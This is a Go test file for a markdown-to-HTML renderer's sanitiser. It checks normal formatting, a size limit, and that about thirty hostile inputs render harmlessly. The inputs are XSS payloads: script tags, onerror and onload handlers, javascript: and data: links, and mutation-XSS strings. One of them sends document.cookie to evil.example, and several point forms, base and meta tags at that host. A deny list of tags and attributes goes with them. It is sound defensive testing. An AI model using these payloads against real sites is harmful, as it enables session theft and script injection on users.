package render_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"workbench/pkg/render"
)

func TestMarkdownKeepsText(t *testing.T) {
	r := render.New()
	for _, tc := range []struct{ in, want string }{
		{"**bold** and *em*", "<p><strong>bold</strong> and <em>em</em></p>"},
		{"`a < b`", "<p><code>a &lt; b</code></p>"},
		{"- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"},
		{"[docs](https://example.org/x)", `<a href="https://example.org/x" rel="nofollow noreferrer noopener" target="_blank">docs</a>`},
		{"![a cat](https://example.org/cat.png)", "<p>a cat</p>"},
	} {
		got, err := r.Markdown(tc.in)
		if err != nil {
			t.Fatalf("%q: %v", tc.in, err)
		}
		if !strings.Contains(got, tc.want) {
			t.Errorf("Markdown(%q) = %q, want it to contain %q", tc.in, got, tc.want)
		}
	}
}

// Hostile input renders to nothing that runs, fetches or styles.
func TestMarkdownHostile(t *testing.T) {
	r := render.New()
	forbidden := []string{
		"<script", "</script", "onerror", "onclick", "onload", "onmouseover", "javascript:", "vbscript:",
		"data:", "<img", "<svg", "<iframe", "<object", "<embed", "<style", "style=", "class=", "<form",
		"<input", "<link", "<meta", "<base", "srcdoc", "<math", "<video", "<audio", "src=",
	}
	for _, in := range []string{
		`<script>alert(1)</script>`,
		"hello <script>fetch('https://evil.example/'+document.cookie)</script> world",
		`<img src=x onerror=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`,
		`[click](javascript:alert(1))`,
		`[click](JaVaScRiPt:alert(1))`,
		"[click](java\tscript:alert(1))",
		`[click](&#106;avascript:alert(1))`,
		`[x](vbscript:msgbox(1))`,
		`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
		`![x](https://tracker.example/pixel.png)`,
		`![x](javascript:alert(1))`,
		`<div onclick="alert(1)">hi</div>`,
		`<p style="background:url(https://evil.example/)">x</p>`,
		`<span class="verdict verdict-pass">pass</span>`,
		"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
		`<svg><script>alert(1)</script></svg>`,
		`<svg onload=alert(1)>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		"```html\n<script>alert(1)</script>\n```",
		"<details open ontoggle=alert(1)>",
		"<form action=https://evil.example><input name=k></form>",
		`<a href="https://ok.example" onclick="alert(1)" style="color:red" class="x">ok</a>`,
		`<base href="https://evil.example/">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		"<!-- <script>alert(1)</script> -->",
		`<video src=x onerror=alert(1)>`,
		`[a](<javascript:alert(1)>)`,
		"<scr<script>ipt>alert(1)</script>",
	} {
		got, err := r.Markdown(in)
		if err != nil {
			t.Fatalf("%q: %v", in, err)
		}
		low := strings.ToLower(got)
		for _, f := range forbidden {
			if strings.Contains(low, f) {
				t.Errorf("Markdown(%q) = %q: contains %q", in, got, f)
			}
		}
	}
}

func TestMarkdownTooLarge(t *testing.T) {
	_, err := render.New().Markdown(strings.Repeat("a", render.MaxMarkdownBytes+1))
	var tl *render.TooLargeError
	if !errors.As(err, &tl) {
		t.Fatalf("err = %v, want *TooLargeError", err)
	}
}

func ExampleRenderer_Markdown() {
	html, _ := render.New().Markdown("Done: **3** files, see [log](javascript:alert(1)) <script>x()</script>")
	fmt.Println(html)
	// Output: <p>Done: <strong>3</strong> files, see log x()</p>
}
